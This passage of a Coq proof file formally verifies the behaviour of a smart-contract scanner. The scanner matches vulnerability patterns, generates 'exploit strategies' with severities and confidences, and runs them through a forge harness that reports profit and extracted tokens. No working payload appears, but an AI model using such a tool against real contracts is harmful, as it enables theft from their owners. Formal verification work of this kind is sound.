           (RevenueNormalizer.arg_blockNumber args)) tokens in
    let silent :=
      RiskSpec.countIf
        (Entries.throwsSilently priceOracle ethers (RevenueNormalizer.arg_chainId args)
           (RevenueNormalizer.arg_blockNumber args)) tokens in
    RevenueNormalizer.totalTokens (RevenueNormalizer.summary out)
    = List.length (RevenueNormalizer.extractedTokens out)
    /\ RevenueNormalizer.successfulNormalizations (RevenueNormalizer.summary out)
       = (normalised + silent)%nat
    /\ RevenueNormalizer.highLiquidityTokens (RevenueNormalizer.summary out)
       = RevenueNormalizer.highLiquidityCount (RevenueNormalizer.marketData out)
    /\ (RevenueNormalizer.highLiquidityTokens (RevenueNormalizer.summary out) <= normalised)%nat
    /\ (RevenueNormalizer.riskTokens (RevenueNormalizer.marketData out) <= normalised)%nat
    /\ (normalised + silent
        <= RevenueNormalizer.totalTokens (RevenueNormalizer.summary out))%nat.
Proof.
  intros A priceOracle ethers args out H tokens normalised silent.
  subst tokens normalised silent.
  apply execute_record in H. destruct H as (native & gas & _ & _ & _ & ->).
  cbn [RevenueNormalizer.summary RevenueNormalizer.marketData RevenueNormalizer.extractedTokens
       RevenueNormalizer.totalTokens RevenueNormalizer.successfulNormalizations
       RevenueNormalizer.highLiquidityTokens RevenueNormalizer.getMarketContext
       RevenueNormalizer.highLiquidityCount RevenueNormalizer.riskTokens].
  unfold RevenueNormalizer.processTokens. rewrite processToken_entries.
  cbn [RevenueNormalizer.normalizedTokens app]. rewrite !count_entries.
  unfold RiskSpec.countIf.
  assert (Hcase := entryOf_cases priceOracle ethers (RevenueNormalizer.arg_chainId args)
                     (RevenueNormalizer.arg_blockNumber args)).
  split; [ rewrite length_map; reflexivity | ].
  split.
  { apply count_split.
    - intros token. unfold Entries.throwsSilently.
      destruct (Hcase token) as [(Hn & Hok & He) | (Hn & message & Hthrow & He)];
        rewrite Hn.
      + rewrite He. reflexivity.
      + rewrite He, Hthrow. cbn. destruct (String.eqb message EmptyString); reflexivity.
    - intros token. unfold Entries.normalises, Entries.throwsSilently.
      destruct (RevenueNormalizer.normalizeToken priceOracle ethers token
                  (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args));
        reflexivity. }
  split; [ reflexivity | ].
  split.
  { apply count_le. intros token.
    destruct (Hcase token) as [(Hn & _) | (_ & message & _ & He)];
      [ intros _; exact Hn | rewrite He; cbn; discriminate ]. }
  split.
  { apply count_le. intros token.
    destruct (Hcase token) as [(Hn & _) | (_ & message & _ & He)];
      [ intros _; exact Hn | rewrite He; cbn; discriminate ]. }
  rewrite <- (count_split
                (fun token => Entries.normalises priceOracle ethers
                                (RevenueNormalizer.arg_chainId args)
                                (RevenueNormalizer.arg_blockNumber args) token
                              || Entries.throwsSilently priceOracle ethers
                                   (RevenueNormalizer.arg_chainId args)
                                   (RevenueNormalizer.arg_blockNumber args) token)).
  - apply filter_length_le.
  - reflexivity.
  - intros token. unfold Entries.normalises, Entries.throwsSilently.
    destruct (RevenueNormalizer.normalizeToken priceOracle ethers token
                (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args));
      reflexivity.
Qed.

(** X5 applies: of a dollar coin and a token with a malformed amount, two
    entries, one successful normalisation, one token of high liquidity. *)
Lemma X5_summary_counts_witness :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) = Ok out
    /\ RevenueNormalizer.totalTokens (RevenueNormalizer.summary out) = 2%nat
    /\ RevenueNormalizer.successfulNormalizations (RevenueNormalizer.summary out) = 1%nat
    /\ RevenueNormalizer.highLiquidityTokens (RevenueNormalizer.summary out)
       = RevenueNormalizer.highLiquidityCount (RevenueNormalizer.marketData out).
Proof.
  eexists. split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ]. split; [ vm_compute; reflexivity | ].
  exact (proj1 (proj2 (proj2
           (X5_summary_counts JsNum.Binary64
              (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
              (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) _ eq_refl)))).
Defined.

(** ** ConcreteExecution: the findings, their strategies, and what [execute] returns *)

Section ScanFacts.

Import ConcreteExecution.
Context {A : JsNum.Arith}.

(** A strategy is generated for every finding, of the category of the finding. *)
Lemma strategies_follow_findings (vulnerabilities : list Vulnerability) :
  map type (exploitStrategiesOf vulnerabilities) = map v_type vulnerabilities.
Proof.
  unfold exploitStrategiesOf.
  induction vulnerabilities as [ | v vs IH ]; [ reflexivity | ].
  cbn [flat_map map]. pose proof (strategy_type_of v) as Hv.
  destruct (generateExploitStrategy v) as [s | ]; cbn [option_map] in Hv; [ | discriminate Hv ].
  injection Hv as Hv. cbn [app map]. rewrite Hv, IH. reflexivity.
Qed.

(** The severity that a generator gives is the severity that the table of
    patterns gives to its category. *)
Lemma scanned_severity (sourceCode : string) (v : Vulnerability) :
  In v (analyzeForVulnerabilities sourceCode) ->
  option_map severity (generateExploitStrategy v) = Some (v_severity v).
Proof.
  intros H. apply analyze_entry in H. destruct H as (t & config & n & Hin & _ & _ & ->).
  unfold patterns in Hin. cbn [In] in Hin.
  repeat (destruct Hin as [Hin | Hin]; [ injection Hin as <- <-; reflexivity | ]).
  contradiction.
Qed.

Lemma strategies_severity (vulnerabilities : list Vulnerability) :
  (forall v, In v vulnerabilities ->
             option_map severity (generateExploitStrategy v) = Some (v_severity v)) ->
  map severity (exploitStrategiesOf vulnerabilities) = map v_severity vulnerabilities.
Proof.
  unfold exploitStrategiesOf.
  induction vulnerabilities as [ | v vs IH ]; intros Hall; [ reflexivity | ].
  cbn [flat_map map]. pose proof (Hall v (or_introl eq_refl)) as Hv.
  destruct (generateExploitStrategy v) as [s | ]; cbn [option_map] in Hv; [ | discriminate Hv ].
  injection Hv as Hv. cbn [app map]. rewrite Hv, IH; [ reflexivity | ].
  intros v' Hin. apply Hall. right. exact Hin.
Qed.

(** The categories of a scan, from those of the table. *)
Lemma scan_types (sourceCode : string) (table : list (VulnType * PatternConfig)) :
  map v_type (flat_map (scanPattern sourceCode) table)
  = map fst (filter (Scan.matched sourceCode) table).
Proof.
  induction table as [ | [t config] table IH ]; [ reflexivity | ].
  cbn [flat_map filter]. unfold Scan.matched at 1. cbn [snd scanPattern].
  destruct (Regex.matchAll (pattern config) sourceCode) as [matches | ].
  - cbn [app map fst v_type]. rewrite IH. reflexivity.
  - cbn [app]. exact IH.
Qed.

(** Categories in strict order of precedence are all different. *)
Lemma sorted_types_differ (vulnerabilities : list Vulnerability) :
  StronglySorted (fun a b => (Checks.precedence (v_type a) < Checks.precedence (v_type b))%nat)
    vulnerabilities ->
  NoDup (map v_type vulnerabilities).
Proof.
  induction vulnerabilities as [ | v vs IH ]; intros Hs; [ constructor | ].
  apply StronglySorted_inv in Hs. destruct Hs as [Hs Hall].
  cbn [map]. constructor; [ | apply IH; exact Hs ].
  intros Hin. apply in_map_iff in Hin. destruct Hin as (v' & Heq & Hin).
  rewrite Forall_forall in Hall. specialize (Hall v' Hin). rewrite Heq in Hall. lia.
Qed.

End ScanFacts.

Lemma monotoneTable_holds (exact : bool) : Scan.monotoneTable exact = true.
Proof. destruct exact; vm_compute; reflexivity. Qed.

Lemma strategyTable_holds (exact : bool) : Scan.strategyTable exact = true.
Proof. destruct exact; vm_compute; reflexivity. Qed.

Lemma min_3_counts (n : nat) : In (Nat.min n 3) Scan.matchCounts.
Proof.
  assert (H : (Nat.min n 3 = 0 \/ Nat.min n 3 = 1 \/ Nat.min n 3 = 2 \/ Nat.min n 3 = 3)%nat)
    by lia.
  unfold Scan.matchCounts. destruct H as [-> | [-> | [-> | ->]]]; simpl; tauto.
Qed.

Lemma min_4_counts (p : nat) : In (Nat.min p 4) Scan.protectionCounts.
Proof.
  assert (H : (Nat.min p 4 = 0 \/ Nat.min p 4 = 1 \/ Nat.min p 4 = 2
               \/ Nat.min p 4 = 3 \/ Nat.min p 4 = 4)%nat) by lia.
  unfold Scan.protectionCounts. destruct H as [-> | [-> | [-> | [-> | ->]]]]; simpl; tauto.
Qed.

Lemma allTypes_complete (t : VulnType) : In t Checks.allTypes.
Proof. destruct t; simpl; tauto. Qed.

(** X6: every finding has a strategy, so the return of [execute] for
    'no viable exploit strategies' is never taken.  A call that returns
    either found no vulnerability, or ran the selected strategy: the
    strategies it reports are one per finding, in the order of the
    findings, each of the category and of the severity of its finding, and
    the strategy that was run is one of them. *)
Theorem X6_every_finding_has_a_strategy :
  forall (A : JsNum.Arith) (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
         (args : ConcreteExecution.Args) (out : ConcreteExecution.Output),
    ConcreteExecution.execute Number_toString h args = Ok out ->
    let vulnerabilities :=
      ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args) in
    (forall vs, out <> ConcreteExecution.NoStrategies vs)
    /\ (out = ConcreteExecution.NoVulnerabilities <-> vulnerabilities = [])
    /\ (vulnerabilities <> [] ->
        exists best,
          out = ConcreteExecution.Executed best
                  (ConcreteExecution.executeExploitStrategy Number_toString h best
                     (ConcreteExecution.contractAddress args) (ConcreteExecution.chainId args)
                     (ConcreteExecution.blockNumber args))
                  vulnerabilities (ConcreteExecution.exploitStrategiesOf vulnerabilities)
          /\ In best (ConcreteExecution.exploitStrategiesOf vulnerabilities))
    /\ map type (ConcreteExecution.exploitStrategiesOf vulnerabilities)
       = map v_type vulnerabilities
    /\ map severity (ConcreteExecution.exploitStrategiesOf vulnerabilities)
       = map v_severity vulnerabilities.
Proof.
  intros A Number_toString h args out H vulnerabilities.
  assert (Htypes := strategies_follow_findings vulnerabilities).
  assert (Hseverities : map severity (ConcreteExecution.exploitStrategiesOf vulnerabilities)
                        = map v_severity vulnerabilities).
  { apply strategies_severity. intros v Hin. eapply scanned_severity. exact Hin. }
  unfold ConcreteExecution.execute, ConcreteExecution.parseArgs in H.
  destruct (ConcreteExecution.validAddress (ConcreteExecution.contractAddress args)
            && (0 <? ConcreteExecution.chainId args)%Z); cbn [bind] in H; [ | discriminate H ].
  fold vulnerabilities in H.
  destruct vulnerabilities as [ | v vs ] eqn:Hv.
  - injection H as <-.
    split; [ discriminate | ]. split; [ tauto | ].
    split; [ intros Hne; contradiction Hne; reflexivity | ].
    split; assumption.
  - destruct (ConcreteExecution.exploitStrategiesOf (v :: vs)) as [ | first rest ] eqn:Hs;
      [ discriminate Htypes | ].
    injection H as <-.
    split; [ discriminate | ]. split; [ split; discriminate | ].
    split; [ | split; assumption ].
    intros _. exists (ConcreteExecution.bestStrategyOf first rest).
    split; [ reflexivity | ].
    destruct (bestStrategyOf_first_maximum rest first) as (before & after & -> & _).
    apply in_elt.
Qed.

(** X6 applies: on the text ["x += 1; target.delegatecall(data);"] the
    strategies are one of high severity for the integer overflow and one
    of critical severity for the delegatecall. *)
Lemma X6_every_finding_witness :
  exists out,
    @ConcreteExecution.execute JsNum.Binary64 Scenario.printNumber
      (Fixture.simulator (1 # 10) (1 # 2) (1 # 2))
      (Scan.argsOn "x += 1; target.delegatecall(data);") = Ok out
    /\ map severity
         (@ConcreteExecution.exploitStrategiesOf JsNum.Binary64
            (@ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64
               "x += 1; target.delegatecall(data);"))
       = ["high"; "critical"]
    /\ forall vs, out <> ConcreteExecution.NoStrategies vs.
Proof.
  eexists. split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  exact (proj1 (X6_every_finding_has_a_strategy JsNum.Binary64 Scenario.printNumber
                  (Fixture.simulator (1 # 10) (1 # 2) (1 # 2))
                  (Scan.argsOn "x += 1; target.delegatecall(data);") _ eq_refl)).
Defined.

(** X7: [execute] throws on its schema only.  It throws 'ZodError'
    exactly when the address is not 0x followed by forty hexadecimal digits
    or the chain id is not positive, and it returns in every other case,
    whatever the harness does: when forge is there and the test directory
    cannot be set up, the error that the harness throws is caught, the
    result reports no exploit, and its ExecutionResult carries the message
    of the harness, no gas, no profit, no token and no trace. *)
Theorem X7_execute_throws_on_the_schema_only :
  forall (A : JsNum.Arith) (Number_toString : Q -> string) (h : ConcreteExecution.Harness)
         (args : ConcreteExecution.Args),
    let valid :=
      ConcreteExecution.validAddress (ConcreteExecution.contractAddress args)
      && (0 <? ConcreteExecution.chainId args)%Z in
    (valid = true <-> exists out, ConcreteExecution.execute Number_toString h args = Ok out)
    /\ (valid = false <-> ConcreteExecution.execute Number_toString h args = Throw "ZodError")
    /\ (forall message out,
           ConcreteExecution.forgeAvailable h = true ->
           ConcreteExecution.forgeRun h = ForgeService.FilesFailed message ->
           ConcreteExecution.execute Number_toString h args = Ok out ->
           ConcreteExecution.exploitFound out = JBool false
           /\ forall best executionResult vs ss,
                out = ConcreteExecution.Executed best executionResult vs ss ->
                executionResult
                = [ ("success", JBool false);
                    ("errorMessage", JStr ("Forge test execution failed: " ++ message));
                    ("gasUsed", JNum (JsNum.lit 0));
                    ("profit", JNum (JsNum.lit 0));
                    ("extractedTokens", JTokens []);
                    ("trace", JStrings []) ]).
Proof.
  intros A Number_toString h args valid.
  assert (Hreturns : valid = true ->
            exists out, ConcreteExecution.execute Number_toString h args = Ok out).
  { intros Hvalid. unfold ConcreteExecution.execute, ConcreteExecution.parseArgs.
    fold valid. rewrite Hvalid. cbn [bind].
    destruct (ConcreteExecution.analyzeForVulnerabilities (ConcreteExecution.sourceCode args));
      [ eexists; reflexivity | ].
    destruct (ConcreteExecution.exploitStrategiesOf (v :: l)); eexists; reflexivity. }
  assert (Hthrows : valid = false ->
            ConcreteExecution.execute Number_toString h args = Throw "ZodError").
  { intros Hvalid. unfold ConcreteExecution.execute, ConcreteExecution.parseArgs.
    fold valid. rewrite Hvalid. reflexivity. }
  split.
  { split; [ exact Hreturns | ].
    intros [out Hout]. destruct valid; [ reflexivity | ].
    rewrite (Hthrows eq_refl) in Hout. discriminate Hout. }
  split.
  { split; [ exact Hthrows | ].
    intros Hout. destruct valid; [ | reflexivity ].
    destruct (Hreturns eq_refl) as [out Hok]. rewrite Hok in Hout. discriminate Hout. }
  intros message out Hforge Hrun Hout.
  apply execute_shape in Hout.
  assert (Hresult : forall strategy contractAddress chainId blockNumber,
             ConcreteExecution.executeExploitStrategy Number_toString h strategy
               contractAddress chainId blockNumber
             = [ ("success", JBool false);
                 ("errorMessage", JStr ("Forge test execution failed: " ++ message));
                 ("gasUsed", JNum (JsNum.lit 0));
                 ("profit", JNum (JsNum.lit 0));
                 ("extractedTokens", JTokens []);
                 ("trace", JStrings []) ]).
  { intros strategy contractAddress chainId blockNumber.
    unfold ConcreteExecution.executeExploitStrategy, ForgeService.testExploit.
    rewrite Hforge, Hrun. reflexivity. }
  destruct Hout as [-> | [[vs ->] | (best & vs & ss & ->)]].
  - split; [ reflexivity | ]. intros best er vs ss Heq. discriminate Heq.
  - split; [ reflexivity | ]. intros best er vs' ss Heq. discriminate Heq.
  - cbn [ConcreteExecution.exploitFound]. rewrite Hresult.
    split; [ reflexivity | ].
    intros best' er vs' ss' Heq. injection Heq as _ <- _ _. reflexivity.
Qed.

(** X8: the findings of a scan are the categories of the table whose
    pattern matches the text, in the order of the table: a category at
    most once, seven findings at most, each with the severity and the
    description of its category, the number of the matches of its pattern
    -- one at least -- and the confidence computed from that number and
    from the protective matches of the text. *)
Theorem X8_findings_are_the_matched_categories :
  forall (A : JsNum.Arith) (sourceCode : string),
    let vulnerabilities := ConcreteExecution.analyzeForVulnerabilities sourceCode in
    map v_type vulnerabilities
    = map fst (filter (Scan.matched sourceCode) ConcreteExecution.patterns)
    /\ NoDup (map v_type vulnerabilities)
    /\ (List.length vulnerabilities <= 7)%nat
    /\ Forall
         (fun v =>
            (1 <= v_matches v)%nat
            /\ v_confidence v
               = ConcreteExecution.confidenceOf (v_type v) (v_matches v)
                   (ConcreteExecution.protectionCount sourceCode)
            /\ exists config,
                 In (v_type v, config) ConcreteExecution.patterns
                 /\ v_severity v = ConcreteExecution.p_severity config
                 /\ v_description v = ConcreteExecution.p_description config
                 /\ option_map (@List.length string)
                      (Regex.matchAll (ConcreteExecution.pattern config) sourceCode)
                    = Some (v_matches v))
         vulnerabilities.
Proof.
  intros A sourceCode vulnerabilities.
  assert (Htypes : map v_type vulnerabilities
                   = map fst (filter (Scan.matched sourceCode) ConcreteExecution.patterns))
    by apply scan_types.
  split; [ exact Htypes | ].
  split; [ apply sorted_types_differ, scan_sorted, patterns_sorted | ].
  split.
  { rewrite <- (length_map v_type), Htypes, length_map.
    apply (Nat.le_trans _ _ _ (filter_length_le _ _)). apply Nat.le_refl. }
  apply Forall_forall. intros v Hin. apply analyze_entry in Hin.
  destruct Hin as (t & config & n & Hin & Hn & Hm & ->). cbn.
  split; [ exact Hn | ]. split; [ reflexivity | ].
  exists config. repeat split; assumption.
Qed.

(** X9: in double precision as in exact arithmetic, the confidence of a
    category never decreases with the number of its matches and never
    increases with the number of protective matches; beyond three matches
    and beyond four protective matches it does not change. *)
Theorem X9_confidence_is_monotone :
  forall (exact : bool) (t : VulnType) (n p more fewer : nat),
    (@ConcreteExecution.confidenceOf (Scenario.arith exact) t n (p + fewer)
     <= @ConcreteExecution.confidenceOf (Scenario.arith exact) t (n + more) p)%Q
    /\ @ConcreteExecution.confidenceOf (Scenario.arith exact) t (3 + n) p
       = @ConcreteExecution.confidenceOf (Scenario.arith exact) t 3 p
    /\ @ConcreteExecution.confidenceOf (Scenario.arith exact) t n (4 + p)
       = @ConcreteExecution.confidenceOf (Scenario.arith exact) t n 4.
Proof.
  intros exact t n p more fewer.
  split; [ | split ].
  - rewrite (confidenceOf_saturates exact t n (p + fewer)).
    rewrite (confidenceOf_saturates exact t (n + more) p).
    pose proof (monotoneTable_holds exact) as H. unfold Scan.monotoneTable in H.
    rewrite forallb_forall in H. specialize (H t (allTypes_complete t)).
    rewrite forallb_forall in H. specialize (H (Nat.min n 3) (min_3_counts n)).
    rewrite forallb_forall in H. specialize (H (Nat.min (n + more) 3) (min_3_counts (n + more))).
    rewrite forallb_forall in H.
    specialize (H (Nat.min (p + fewer) 4) (min_4_counts (p + fewer))).
    rewrite forallb_forall in H. specialize (H (Nat.min p 4) (min_4_counts p)).
    assert (Hn : (Nat.min n 3 <=? Nat.min (n + more) 3)%nat = true) by (apply Nat.leb_le; lia).
    assert (Hp : (Nat.min p 4 <=? Nat.min (p + fewer) 4)%nat = true) by (apply Nat.leb_le; lia).
    rewrite Hn, Hp in H. cbn [andb implb] in H. apply Qle_bool_iff. exact H.
  - rewrite (confidenceOf_saturates exact t (3 + n) p).
    rewrite (confidenceOf_saturates exact t 3 p).
    replace (Nat.min (3 + n) 3) with (Nat.min 3 3) by lia. reflexivity.
  - rewrite (confidenceOf_saturates exact t n (4 + p)).
    rewrite (confidenceOf_saturates exact t n 4).
    replace (Nat.min (4 + p) 4) with (Nat.min 4 4) by lia. reflexivity.
Qed.

(** The strategy of a finding of the scan, against its finding. *)
Lemma scanned_strategy_bounds :
  forall (exact : bool) (sourceCode : string) (v : Vulnerability) (s : Strategy),
    In v (@ConcreteExecution.analyzeForVulnerabilities (Scenario.arith exact) sourceCode) ->
    @ConcreteExecution.generateExploitStrategy (Scenario.arith exact) v = Some s ->
    type s = v_type v
    /\ (confidence s <= v_confidence v)%Q
    /\ (Scan.scaledDown (type s) = true -> (confidence s <= 60)%Q)
    /\ (Scan.scaledDown (type s) = false -> confidence s = v_confidence v).
Proof.
  intros exact sourceCode v s Hin Hs.
  pose proof (@strategy_type_of (Scenario.arith exact) v) as Htype.
  rewrite Hs in Htype. cbn [option_map] in Htype. injection Htype as Htype.
  split; [ exact Htype | ]. rewrite Htype.
  apply analyze_entry in Hin. destruct Hin as (t & config & n & _ & Hn & _ & ->).
  cbn [v_type v_confidence] in *.
  pose proof (@strategy_confidence_of (Scenario.arith exact)
                {| v_type := t;
                   v_severity := ConcreteExecution.p_severity config;
                   v_description := ConcreteExecution.p_description config;
                   v_matches := n;
                   v_confidence :=
                     @ConcreteExecution.confidenceOf (Scenario.arith exact) t n
                       (ConcreteExecution.protectionCount sourceCode) |}
                (@Checks.vulnerabilityOn (Scenario.arith exact) t EmptyString EmptyString
                   (Nat.min n 3) (Nat.min (ConcreteExecution.protectionCount sourceCode) 4))
                eq_refl (confidenceOf_saturates exact t n _)) as Hc.
  rewrite Hs in Hc. cbn [option_map] in Hc.
  pose proof (strategyTable_holds exact) as H. unfold Scan.strategyTable in H.
  rewrite forallb_forall in H. specialize (H t (allTypes_complete t)).
  rewrite forallb_forall in H.
  assert (Hn3 : In (Nat.min n 3) [1; 2; 3]%nat).
  { assert (Hm : (Nat.min n 3 = 1 \/ Nat.min n 3 = 2 \/ Nat.min n 3 = 3)%nat) by lia.
    destruct Hm as [-> | [-> | ->]]; simpl; tauto. }
  specialize (H (Nat.min n 3) Hn3). rewrite forallb_forall in H.
  specialize (H (Nat.min (ConcreteExecution.protectionCount sourceCode) 4) (min_4_counts _)).
  cbv zeta in H.
  destruct (@ConcreteExecution.generateExploitStrategy (Scenario.arith exact)
              (Checks.vulnerabilityOn t EmptyString EmptyString (Nat.min n 3)
                 (Nat.min (ConcreteExecution.protectionCount sourceCode) 4)))
    as [s' | ]; [ | discriminate H ].
  cbn [option_map] in Hc. injection Hc as Hc.
  apply andb_true_iff in H. destruct H as [Hle Hscaled].
  rewrite (confidenceOf_saturates exact t n (ConcreteExecution.protectionCount sourceCode)).
  rewrite Hc. cbn [Checks.vulnerabilityOn v_confidence] in Hle.
  split; [ apply Qle_bool_iff; exact Hle | ].
  split.
  - intros Ht. rewrite Ht in Hscaled. cbn [implb] in Hscaled.
    apply Qle_bool_iff. exact Hscaled.
  - intros Ht. rewrite <- Hc.
    rewrite <- (confidenceOf_saturates exact t n (ConcreteExecution.protectionCount sourceCode)).
    unfold ConcreteExecution.generateExploitStrategy in Hs. cbn [v_type] in Hs.
    injection Hs as <-. destruct t; try discriminate Ht; reflexivity.
Qed.


(** X10: in double precision as in exact arithmetic, whatever the source
    text, the strategy generated for a finding of the scan is never more
    confident than the finding, and a strategy of the categories whose
    generator scales the confidence down -- access control, integer
    overflow, unchecked call -- has a confidence of 60 at most. *)
Theorem X10_strategy_no_more_confident_than_its_finding :
  forall (exact : bool) (sourceCode : string) (v : Vulnerability) (s : Strategy),
    In v (@ConcreteExecution.analyzeForVulnerabilities (Scenario.arith exact) sourceCode) ->
    @ConcreteExecution.generateExploitStrategy (Scenario.arith exact) v = Some s ->
    type s = v_type v
    /\ (confidence s <= v_confidence v)%Q
    /\ (Scan.scaledDown (type s) = true -> (confidence s <= 60)%Q)
    /\ (Scan.scaledDown (type s) = false -> confidence s = v_confidence v).
Proof.
  intros exact sourceCode v s Hin Hs.
  destruct (scanned_strategy_bounds exact sourceCode v s Hin Hs) as (Htype & Hle & Hscaled & Hsame).
  split; [ exact Htype | ]. split; [ exact Hle | ]. split; [ exact Hscaled | exact Hsame ].
Qed.

(** X10 applies: the integer overflow of ["x += 1; target.delegatecall(data);"]
    is found with the confidence 43 and its strategy has the confidence
    30.1 (43 times 0.7), below 60. *)
Lemma X10_strategy_confidence_witness :
  exists v s,
    In v (@ConcreteExecution.analyzeForVulnerabilities JsNum.Exact
            "x += 1; target.delegatecall(data);")
    /\ @ConcreteExecution.generateExploitStrategy JsNum.Exact v = Some s
    /\ type s = integerOverflow
    /\ v_confidence v = 43%Q
    /\ confidence s = (301 # 10)%Q
    /\ (confidence s <= v_confidence v)%Q.
Proof.
  eexists. eexists.
  split; [ left; reflexivity | ].
  split; [ reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  exact (proj1 (proj2
           (X10_strategy_no_more_confident_than_its_finding true
              "x += 1; target.delegatecall(data);" _ _ (or_introl eq_refl) eq_refl))).
Defined.

(** ** The scan and the case of the text *)

Section CaseFolding.

Lemma lower_idempotent (c : ascii) : Regex.lower (Regex.lower c) = Regex.lower c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma isSpace_lower (c : ascii) : Regex.isSpace (Regex.lower c) = Regex.isSpace c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma isDigit_lower (c : ascii) : Regex.isDigit (Regex.lower c) = Regex.isDigit c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma eqc_lower_r (c a : ascii) : Regex.eqc true c (Regex.lower a) = Regex.eqc true c a.
Proof. unfold Regex.eqc. rewrite lower_idempotent. reflexivity. Qed.

Lemma eqc_lower_l (a c : ascii) : Regex.eqc true (Regex.lower a) c = Regex.eqc true a c.
Proof. unfold Regex.eqc. rewrite lower_idempotent. reflexivity. Qed.

Lemma existsb_eqc_lower (a : ascii) (cs : list ascii) :
  existsb (Regex.eqc true (Regex.lower a)) cs = existsb (Regex.eqc true a) cs.
Proof.
  induction cs as [ | c cs IH ]; [ reflexivity | ].
  cbn [existsb]. rewrite eqc_lower_l, IH. reflexivity.
Qed.

Lemma run_star (ignoreCase greedy : bool) (r1 : Regex.re) (R : Type) (s : list ascii)
  (k : list ascii -> option R) :
  Regex.run ignoreCase (Regex.Star greedy r1) R s k
  = Matching.starLoop ignoreCase greedy r1 R k (S (List.length s)) s.
Proof. reflexivity. Qed.

Lemma starLoop_step (ignoreCase greedy : bool) (r1 : Regex.re) (R : Type)
  (k : list ascii -> option R) (fuel : nat) (s : list ascii) :
  Matching.starLoop ignoreCase greedy r1 R k (S fuel) s
  = let more :=
      Regex.run ignoreCase r1 R s (fun s' =>
        if (List.length s' <? List.length s)%nat
        then Matching.starLoop ignoreCase greedy r1 R k fuel s' else None) in
    if greedy
    then match more with Some x => Some x | None => k s end
    else match k s with Some x => Some x | None => more end.
Proof. reflexivity. Qed.

(** A byte that is no ASCII character is the lower case of itself
    only. *)
Lemma lower_cases (b : ascii) :
  Regex.lower b = b
  \/ ((nat_of_ascii b < 128)%nat /\ (nat_of_ascii (Regex.lower b) < 128)%nat).
Proof.
  destruct b as [[] [] [] [] [] [] [] []];
    first [ left; reflexivity | right; split; apply Nat.ltb_lt; reflexivity ].
Qed.

Lemma eqb_lower_wide (a b : ascii) :
  (128 <= nat_of_ascii a)%nat -> Ascii.eqb a (Regex.lower b) = Ascii.eqb a b.
Proof.
  intros Ha. destruct (lower_cases b) as [-> | [Hb Hl]]; [ reflexivity | ].
  assert (H1 : Ascii.eqb a (Regex.lower b) = false)
    by (apply Ascii.eqb_neq; intros ->; lia).
  assert (H2 : Ascii.eqb a b = false) by (apply Ascii.eqb_neq; intros ->; lia).
  rewrite H1, H2. reflexivity.
Qed.

Lemma after_lower (w s : list ascii) :
  Forall (fun a => (128 <= nat_of_ascii a)%nat) w ->
  Regex.after w (map Regex.lower s) = option_map (map Regex.lower) (Regex.after w s).
Proof.
  intros Hw. revert s. induction Hw as [ | a w Ha _ IH ]; intros s; [ reflexivity | ].
  destruct s as [ | b s ]; [ reflexivity | ].
  cbn [map Regex.after]. rewrite (eqb_lower_wide a b Ha).
  destruct (Ascii.eqb a b); [ apply IH | reflexivity ].
Qed.

Lemma wideSpaces_wide :
  Forall (Forall (fun a => (128 <= nat_of_ascii a)%nat)) Regex.wideSpaces.
Proof. unfold Regex.wideSpaces. repeat constructor; apply Nat.leb_le; reflexivity. Qed.

Lemma afterOneOf_lower (ws : list (list ascii)) (s : list ascii) :
  Forall (Forall (fun a => (128 <= nat_of_ascii a)%nat)) ws ->
  Regex.afterOneOf ws (map Regex.lower s)
  = option_map (map Regex.lower) (Regex.afterOneOf ws s).
Proof.
  induction 1 as [ | w ws Hw _ IH ]; [ reflexivity | ].
  cbn [Regex.afterOneOf]. rewrite (after_lower w s Hw), IH.
  destruct (Regex.after w s); reflexivity.
Qed.

(** The white space of a text and of the text in lower case. *)
Lemma space_lower (s : list ascii) :
  Regex.space (map Regex.lower s) = option_map (map Regex.lower) (Regex.space s).
Proof.
  destruct s as [ | a s ]; [ reflexivity | ].
  change (map Regex.lower (a :: s)) with (Regex.lower a :: map Regex.lower s).
  unfold Regex.space. rewrite isSpace_lower.
  destruct (Regex.isSpace a); [ reflexivity | ].
  exact (afterOneOf_lower Regex.wideSpaces (a :: s) wideSpaces_wide).
Qed.

(** One character of a text and of the text in lower case. *)
Lemma step1_lower (p p' : ascii -> bool) (R R' : Type) (f : R -> R') (s : list ascii)
  (k : list ascii -> option R) (k' : list ascii -> option R') :
  (forall a, p' (Regex.lower a) = p a) ->
  (forall s', k' (map Regex.lower s') = option_map f (k s')) ->
  Regex.step1 p' R' (map Regex.lower s) k' = option_map f (Regex.step1 p R s k).
Proof.
  intros Hp Hk. destruct s as [ | a s ]; [ reflexivity | ].
  cbn [map Regex.step1]. rewrite Hp. destruct (p a); [ apply Hk | reflexivity ].
Qed.

(** Under the flag [i] a pattern matches a text as it matches the text in
    lower case, and leaves the corresponding rest. *)
Lemma run_lower (r : Regex.re) :
  forall (R R' : Type) (f : R -> R') (s : list ascii)
         (k : list ascii -> option R) (k' : list ascii -> option R'),
    (forall s', k' (map Regex.lower s') = option_map f (k s')) ->
    Regex.run true r R' (map Regex.lower s) k' = option_map f (Regex.run true r R s k).
Proof.
  induction r as [ | c | negated cs | | | | r1 IH1 r2 IH2 | r1 IH1 r2 IH2 | greedy r1 IH1 | r1 IH1 ];
    intros R R' f s k k' Hk.
  - apply Hk.
  - cbn [Regex.run]. apply step1_lower; [ intros a; apply eqc_lower_r | exact Hk ].
  - cbn [Regex.run].
    apply step1_lower; [ intros a; rewrite existsb_eqc_lower; reflexivity | exact Hk ].
